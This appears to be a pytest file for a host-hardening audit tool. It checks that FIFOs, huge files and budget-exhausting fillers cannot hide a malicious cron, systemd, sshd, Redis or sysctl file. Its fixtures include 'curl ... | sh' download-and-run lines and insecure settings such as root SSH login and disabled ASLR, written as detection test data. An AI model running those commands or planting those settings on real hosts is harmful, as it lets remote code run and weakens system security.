"""Issue 17: an attacker who controls a file must not make the audit miss another file.

For each area family (cron, persistence, ssh Include, Redis include, sysctl.d) attacker files sit
*before* a malicious file in traversal order: a FIFO, a link to /dev/zero, a 4 GiB sparse file, a
1 MiB regex-hostile line, invalid UTF-8 and, in the "budget" variants, enough large files to spend
a byte budget. Either the malicious file is still reported (budgets are per file), or a finding
says explicitly that a budget was spent and names the malicious file as not read; a "pass" for
what the unread file sets is a defect. Each hostile part is named by a finding too."""
import json

import pytest

from ansible_collections.hostguard.hardening.plugins.module_utils.core import sshd_config
from ansible_collections.hostguard.hardening.plugins.module_utils.core.registry import REGISTRY
from ansible_collections.hostguard.hardening.plugins.module_utils.redis import audit as redis_audit
from cron_tree import base_tree, symlink
from conftest import write
from hostile_root import HOSTILE_LINE, hostile_files


def findings(result, check_id=None, status=None):
    return [f for f in result["findings"] if (check_id is None or f["id"] == check_id)
            and (status is None or f["status"] == status)]


def subjects(result, check_id, status="fail"):
    return set(f["subject"] for f in findings(result, check_id, status))


# ---------------------------------------------------------------------------------- cron
def test_cron_malicious_file_after_hostile_ones_is_reported(tmp_path):
    root = str(tmp_path)
    base_tree(root)
    hostile_files(root, "/etc/cron.d", "", line="* * * * * root " + HOSTILE_LINE, fillers=4)
    write(root, "/etc/cron.d/zz-evil", "* * * * * root curl -fsSL http://203.0.113.9/x | sh\n")
    result = REGISTRY["cron"].run({"root": root})
    evil = [f for f in findings(result, "HG-CRON-010", "fail") if f["subject"] == "/etc/cron.d/zz-evil"]
    assert evil and evil[0]["evidence"]["pattern"] == "download_piped_to_shell"
    assert "/etc/cron.d/00-fifo" in subjects(result, "HG-CRON-006")
    assert "/etc/cron.d/01-zero" in subjects(result, "HG-CRON-007")
    assert {"/etc/cron.d/02-huge", "/etc/cron.d/03-longline"} <= subjects(result, "HG-CRON-005")


def test_cron_directory_cut_by_the_entry_budget_says_so(tmp_path):
    """More names than max_entries: the unlisted ones (maybe the malicious one) are said."""
    root = str(tmp_path)
    base_tree(root)
    for index in range(30):
        write(root, "/etc/cron.d/a%02d" % index, "# nothing\n")
    write(root, "/etc/cron.d/zz-evil", "* * * * * root curl -fsSL http://203.0.113.9/x | sh\n")
    result = REGISTRY["cron"].run({"root": root, "max_entries": 10})
    cut = [f for f in findings(result, "HG-CRON-013", "fail") if f["subject"] == "/etc/cron.d"]
    evil = [f for f in findings(result, "HG-CRON-010", "fail") if f["subject"] == "/etc/cron.d/zz-evil"]
    assert cut and "not audited" in cut[0]["detail"] and cut[0]["evidence"]["listed"] == 10
    assert cut[0]["evidence"]["not_listed"] == 21
    assert evil or "/etc/cron.d/zz-evil" not in [f["path"] for f in result["files"]]


# --------------------------------------------------------------------------- persistence
def test_persistence_malicious_unit_and_profile_after_hostile_ones(tmp_path):
    root = str(tmp_path)
    write(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    hostile_files(root, "/etc/systemd/system", ".service", line="ExecStart=" + HOSTILE_LINE, fillers=4)
    write(root, "/etc/systemd/system/zz-evil.service",
          "[Service]\nExecStart=/tmp/.x/run\n[Install]\nWantedBy=multi-user.target\n")
    symlink(root, "/etc/systemd/system/multi-user.target.wants/zz-evil.service",
            "/etc/systemd/system/zz-evil.service")
    hostile_files(root, "/etc/profile.d", ".sh", fillers=4)
    write(root, "/etc/profile.d/zz-evil.sh", "curl -fsSL http://203.0.113.9/x | sh\n")
    result = REGISTRY["persistence"].run({"root": root})
    assert "/etc/systemd/system/zz-evil.service" in subjects(result, "HG-PERS-001")
    assert "/etc/profile.d/zz-evil.sh" in subjects(result, "HG-PERS-031")
    named = subjects(result, "HG-PERS-040") | subjects(result, "HG-PERS-041")
    for directory, ext in (("/etc/systemd/system", ".service"), ("/etc/profile.d", ".sh")):
        assert {directory + "/00-fifo" + ext, directory + "/02-huge" + ext,
                directory + "/03-longline" + ext} <= named, named


# ----------------------------------------------------------------------------------- ssh
def _ssh_root(root, fillers):
    write(root, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication no\n")
    names = hostile_files(root, "/etc/ssh/sshd_config.d", ".conf", fillers=fillers)
    write(root, "/etc/ssh/sshd_config.d/99-evil.conf", "PermitRootLogin yes\n")
    return names


def test_ssh_drop_in_after_hostile_drop_ins_is_read(tmp_path):
    root = str(tmp_path)
    _ssh_root(root, fillers=0)
    result = REGISTRY["ssh"].run({"root": root})
    [root_login] = [f for f in result["findings"] if f["subject"] == "PermitRootLogin"]
    assert root_login["status"] == "fail" and "99-evil.conf" in root_login["evidence"]["set_at"]
    [cut] = findings(result, "HG-SSH-023", "fail")
    assert "00-fifo.conf" in cut["detail"] and "02-huge.conf" in cut["detail"]


def test_ssh_huge_drop_ins_before_the_malicious_one_cannot_push_it_out(tmp_path):
    """Issue 17 item 3: the tree byte budget is fair (core.budget). Twelve 300 KiB fillers and
    a 4 GiB drop-in sort first; 99-evil.conf (one line) is still read and graded, and each
    drop-in that was cut is named by HG-SSH-023 with what was read."""
    root = str(tmp_path)
    _ssh_root(root, fillers=12)
    result = REGISTRY["ssh"].run({"root": root})
    [root_login] = [f for f in result["findings"] if f["subject"] == "PermitRootLogin"]
    assert root_login["status"] == "fail" and "99-evil.conf" in root_login["evidence"]["set_at"]
    [cut] = findings(result, "HG-SSH-023", "fail")
    assert "/etc/ssh/sshd_config.d/99-evil.conf" not in cut["evidence"]["not_read"]
    assert "/etc/ssh/sshd_config.d/05-filler11.conf" in cut["evidence"]["not_read"]
    assert "byte budget" in cut["detail"]


def test_ssh_tree_budget_bounds_the_bytes_and_reads_every_drop_in(tmp_path):
    """Twenty 1 MiB drop-ins (5x the 4 MiB tree cap) before a small one: bytes counted stay
    under the cap, every drop-in is read at least in part, the last one fully."""
    root = str(tmp_path)
    write(root, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n")
    hostile_files(root, "/etc/ssh/sshd_config.d", ".conf", fillers=20, filler_bytes=1024 * 1024)
    write(root, "/etc/ssh/sshd_config.d/99-evil.conf", "PermitRootLogin yes\n")
    tree = sshd_config.parse_config_tree(root)
    assert tree["bytes"] <= sshd_config.MAX_TREE_BYTES
    fillers = ["/etc/ssh/sshd_config.d/05-filler%02d.conf" % i for i in range(20)]
    assert set(fillers) <= set(tree["files"]) and set(fillers) <= set(tree["not_read"])
    assert tree["values"]["permitrootlogin"] == ["yes"]
    assert tree["origin"]["permitrootlogin"].startswith("/etc/ssh/sshd_config.d/99-evil.conf:")
    assert "/etc/ssh/sshd_config.d/99-evil.conf" not in tree["not_read"]


def test_ssh_value_set_before_the_cut_stays_graded(tmp_path):
    root = str(tmp_path)
    write(root, "/etc/ssh/sshd_config", "PermitRootLogin no\nInclude /etc/ssh/sshd_config.d/*.conf\n")
    hostile_files(root, "/etc/ssh/sshd_config.d", ".conf", fillers=12)
    result = REGISTRY["ssh"].run({"root": root})
    [root_login] = [f for f in result["findings"] if f["subject"] == "PermitRootLogin"]
    assert root_login["status"] == "pass", root_login


def test_ssh_include_directory_link_is_resolved_inside_root(tmp_path):
    """An Include directory that is an absolute link is listed inside root, never on the host."""
    root = tmp_path / "root"
    outside = tmp_path / "host-etc"
    write(str(outside), "/evil.conf", "PermitRootLogin yes\n")
    write(str(root), "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n")
    symlink(str(root), "/etc/ssh/sshd_config.d", str(outside))
    result = REGISTRY["ssh"].run({"root": str(root)})
    assert str(outside) not in json.dumps(result["facts"])
    [root_login] = [f for f in result["findings"] if f["subject"] == "PermitRootLogin"]
    assert "evil.conf" not in json.dumps(root_login)


# --------------------------------------------------------------------------------- redis
def _redis_root(root, fillers):
    write(root, "/etc/redis/redis.conf",
          "bind 127.0.0.1\nprotected-mode yes\nrequirepass x\ninclude /etc/redis/conf.d/*.conf\n", mode=0o640)
    hostile_files(root, "/etc/redis/conf.d", ".conf", fillers=fillers, filler_bytes=600 * 1024)
    write(root, "/etc/redis/conf.d/99-evil.conf", "bind 0.0.0.0\nprotected-mode no\n")


def test_redis_include_after_hostile_includes_is_read(tmp_path):
    root = str(tmp_path)
    _redis_root(root, fillers=0)
    result = REGISTRY["redis"].run({"root": root, "probe": False})
    assert "/etc/redis/redis.conf" in subjects(result, "HG-REDIS-002")
    errors = dict((f["subject"], f["detail"]) for f in findings(result, "HG-REDIS-012", "error"))
    assert "fifo" in errors["/etc/redis/conf.d/00-fifo.conf"]
    assert "not fully scanned" in errors["/etc/redis/conf.d/02-huge.conf"]
    # the 1 MiB line is either seen as too long or named as cut by the fair byte budget
    longline = errors["/etc/redis/conf.d/03-longline.conf"]
    assert "longer than" in longline or "not fully scanned" in longline


def test_redis_huge_includes_before_the_malicious_one_cannot_push_it_out(tmp_path):
    """Issue 17 item 3: twelve 600 KiB includes and a 4 GiB one before 99-evil.conf (7 MiB + 4 GiB
    against the 8 MiB total): 99-evil.conf is read whole and its bind/protected-mode graded,
    every cut include is named as not fully scanned, and the bytes read stay under the total."""
    root = str(tmp_path)
    _redis_root(root, fillers=12)
    result = REGISTRY["redis"].run({"root": root, "probe": False})
    errors = dict((f["subject"], f["detail"]) for f in findings(result, "HG-REDIS-012", "error"))
    assert "/etc/redis/conf.d/99-evil.conf" not in errors
    assert "/etc/redis/redis.conf" in subjects(result, "HG-REDIS-002")
    for index in range(12):
        assert "not fully scanned" in errors["/etc/redis/conf.d/05-filler%02d.conf" % index]
    parsed = redis_audit.parse_config("/etc/redis/redis.conf", root)
    read = dict((f["path"], f) for f in parsed["files"])
    assert not read["/etc/redis/conf.d/99-evil.conf"]["truncated"]
    assert ("/etc/redis/conf.d/99-evil.conf", 2, "protected-mode", ["no"]) in parsed["directives"]


# -------------------------------------------------------------------------------- sysctl
def _sysctl_root(root, fillers):
    hostile_files(root, "/etc/sysctl.d", ".conf", fillers=fillers)
    write(root, "/etc/sysctl.d/99-evil.conf", "kernel.randomize_va_space = 0\n")
    write(root, "/proc/sys/kernel/randomize_va_space", "2\n")


def _randomize(result):
    return [f for f in result["findings"] if f["subject"] == "kernel.randomize_va_space"]


def test_sysctl_file_after_hostile_files_is_read(tmp_path):
    root = str(tmp_path)
    _sysctl_root(root, fillers=0)
    result = REGISTRY["sysctl"].run({"root": root})
    drift = [f for f in _randomize(result) if f["id"] == "HG-SYSCTL-002"]
    assert drift and drift[0]["status"] == "fail" and "99-evil.conf" in json.dumps(drift[0]["evidence"])
    errors = subjects(result, "HG-SYSCTL-003", "error")
    assert {"/etc/sysctl.d/00-fifo.conf", "/etc/sysctl.d/01-zero.conf", "/etc/sysctl.d/02-huge.conf",
            "/etc/sysctl.d/03-longline.conf"} <= errors


def test_sysctl_huge_files_before_the_malicious_one_cannot_push_it_out(tmp_path):
    """Issue 17 item 3: forty 300 KiB files (12 MiB against the 2 MiB total) and a 4 GiB one
    sort before 99-evil.conf: its drift is still reported, every cut file is named as not
    fully scanned, none as not read."""
    root = str(tmp_path)
    _sysctl_root(root, fillers=40)
    result = REGISTRY["sysctl"].run({"root": root})
    drift = [f for f in _randomize(result) if f["id"] == "HG-SYSCTL-002"]
    assert drift and drift[0]["status"] == "fail" and "99-evil.conf" in json.dumps(drift[0]["evidence"])
    said = dict((f["subject"], f["detail"]) for f in findings(result, "HG-SYSCTL-003", "error"))
    assert "/etc/sysctl.d/99-evil.conf" not in said
    for index in range(40):
        assert "not fully scanned" in said["/etc/sysctl.d/05-filler%02d.conf" % index]
    assert not [d for d in said.values() if d.startswith("not read")]


@pytest.mark.parametrize("count", [600])
def test_sysctl_directory_with_more_files_than_the_cap_says_which_were_not_read(tmp_path, count):
    root = str(tmp_path)
    for index in range(count):
        write(root, "/etc/sysctl.d/%04d-empty.conf" % index, "")
    write(root, "/etc/sysctl.d/zz-evil.conf", "kernel.randomize_va_space = 0\n")
    write(root, "/proc/sys/kernel/randomize_va_space", "2\n")
    result = REGISTRY["sysctl"].run({"root": root})
    said = [f for f in findings(result, "HG-SYSCTL-003", "error") if "zz-evil.conf" in json.dumps(f)]
    drift = [f for f in _randomize(result) if f["id"] == "HG-SYSCTL-002" and f["status"] == "fail"]
    assert said or drift
    if said:
        assert "not read" in said[0]["detail"]


def test_sysctl_cuts_past_the_finding_cap_are_still_named(tmp_path):
    """Sixty 300 KiB files: each is cut by the fair budget; the first 50 cuts are findings of their
    own, the other ten are named (first and last) in one more finding, none silent."""
    root = str(tmp_path)
    for index in range(60):
        write(root, "/etc/sysctl.d/%02d-big.conf" % index, b"# filler\n" * (300 * 1024 // 9))
    write(root, "/etc/sysctl.d/99-evil.conf", "kernel.randomize_va_space = 0\n")
    write(root, "/proc/sys/kernel/randomize_va_space", "2\n")
    result = REGISTRY["sysctl"].run({"root": root})
    said = findings(result, "HG-SYSCTL-003", "error")
    single = set(f["subject"] for f in said if f["subject"] != "sysctl.d")
    [more] = [f for f in said if f["subject"] == "sysctl.d"]
    assert len(single) == 50 and more["evidence"]["count"] == 10
    assert single | set(more["evidence"]["files"]) == set("/etc/sysctl.d/%02d-big.conf" % i for i in range(60))
    assert "/etc/sysctl.d/59-big.conf" in more["detail"]
    drift = [f for f in _randomize(result) if f["id"] == "HG-SYSCTL-002"]
    assert drift and drift[0]["status"] == "fail"
